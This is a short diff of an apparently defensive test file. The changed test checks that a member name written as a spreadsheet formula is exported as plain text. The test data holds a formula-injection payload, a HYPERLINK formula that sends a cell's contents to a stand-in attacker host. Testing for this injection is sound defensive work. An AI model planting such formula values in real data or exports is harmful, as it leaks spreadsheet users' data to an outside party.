@@ -101,7 +101,7 @@ test("files are made so often and no oftener; the answer says when to come back"
   expect(Number(answers.at(-1)?.headers["retry-after"])).toBeGreaterThan(0);
 });
 
-test("a name that a spreadsheet would run as a formula is text in the file", async () => {
+test("[I12] a name that a spreadsheet would run as a formula is text in the file", async () => {
   const owner = await world.signedIn();
   const name = '=HYPERLINK("https://evil.example?"&A1,"Ada")';
   await world.world.db.transaction(owner.tenantId, (tx) => tx.update(members).set({ name }));
